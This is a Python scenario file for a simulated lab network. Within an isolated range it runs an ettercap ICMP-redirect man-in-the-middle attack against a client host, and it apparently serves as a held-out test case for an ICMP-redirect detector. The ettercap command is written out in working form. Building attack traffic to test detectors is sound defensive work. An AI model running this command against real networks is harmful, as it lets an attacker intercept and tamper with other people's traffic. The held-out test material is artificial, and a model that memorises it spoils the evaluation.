"""ettercap's man in the middle by redirects."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router, www = net.inside("attacker"), net.router(), net.web(net.outside("www"))
    client = net.inside("pc4")
    attacker.sysctl(net__ipv4__conf__all__send_redirects="0", net__ipv4__conf__eth0__send_redirects="0")
    # A hub in a switch's place: ettercap forges its messages from packets that it sees.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    net.loop(client, f"curl -s -m 3 -o /dev/null http://{www.ip}/", 1.1)
    net.quiet(3)
    with net.attack(
        "icmp-redirect",
        by=attacker,
        victims=[client],
        attackers=[attacker],
        also=["ip-spoofing"],
        frames="icmp[0] == 5",
    ):
        words = f"ettercap -T -q -z -i eth0 -M icmp:{router.mac}/{router.ip}"
        net.tool(attacker, *words.split(), f"/{client.ip}//", seconds=14)
    net.quiet(3)


SCENARIO = Scenario(
    name="icmp-redirect-held-ettercap",
    about="ettercap tells a client by redirects, in the router's name, to send its packets to the attacker.",
    detectors=("icmp-redirect",),
    tools={"ettercap": "ettercap-text-only"},
    held_out=True,
    run=run,
)
